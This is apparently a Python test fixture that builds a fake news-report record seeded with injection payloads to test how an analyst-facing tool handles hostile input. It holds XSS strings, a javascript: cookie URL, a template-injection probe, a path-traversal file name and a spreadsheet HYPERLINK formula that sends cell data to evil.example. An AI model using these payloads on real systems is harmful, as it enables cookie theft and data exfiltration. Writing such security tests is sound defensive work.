"""A report and its surroundings written by somebody who wants to run something in the analyst's browser."""

from datetime import date

from tadmor.model import Raw, Reading
from tadmor.scale.worker import default_reader

__all__ = ["ELEMENT", "FORMULA", "LINK", "PLANTED", "planted"]

ELEMENT = "<script>alert(1)</script>"
LINK = "javascript:alert(document.cookie)"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PLANTED = (ELEMENT, '"><img src=x onerror=alert(2)>', "{{ 7*7 }}", "'-alert(3)-'", "</textarea><svg/onload=alert(4)>")


def planted(number: int = 0) -> Reading:
    """A reading of a report with attacks in its title, byline, address, body, speaker and places."""
    attack = PLANTED[number]
    text = (
        f'MOSUL - "We lost four men at {attack}," Colonel Anja {attack} Vesk told reporters on Monday. '
        f"{FORMULA} She added that some 300 fighters may have crossed the river near Homs {attack}.\n"
    )
    raw = Raw(
        name=f"../../etc/{attack}.txt",
        content=text.encode(),
        media="text",
        outlet=f"Wire {attack}",
        published=date(2016, 12, 12),
        title=f"{FORMULA} {attack}",
        url=LINK if number % 2 else f"https://x.example/{attack}",
    )
    (reading,) = default_reader()([raw])
    assert isinstance(reading, Reading)
    return reading
